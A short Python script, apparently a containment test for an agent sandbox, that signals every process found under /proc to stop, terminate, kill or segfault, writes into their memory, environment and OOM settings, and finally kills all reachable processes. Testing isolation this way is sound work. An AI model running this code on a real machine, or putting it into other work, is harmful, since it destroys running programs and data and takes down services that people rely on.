"""Sends every signal to every process, reads and writes the memory of each, and leaves. No agent may be touched."""

import contextlib
import os
import signal

own = {os.getpid(), os.getppid()}
for entry in os.listdir("/proc"):
    if not entry.isdigit() or int(entry) == os.getpid():
        continue
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, signal.SIGSEGV):
        with contextlib.suppress(OSError):
            os.kill(int(entry), number)
    for name in ("mem", "oom_score_adj", "environ", "cwd/x"):
        with contextlib.suppress(OSError), open(f"/proc/{entry}/{name}", "r+b") as file:
            file.write(b"0")
with contextlib.suppress(OSError):
    os.kill(-1, signal.SIGKILL)
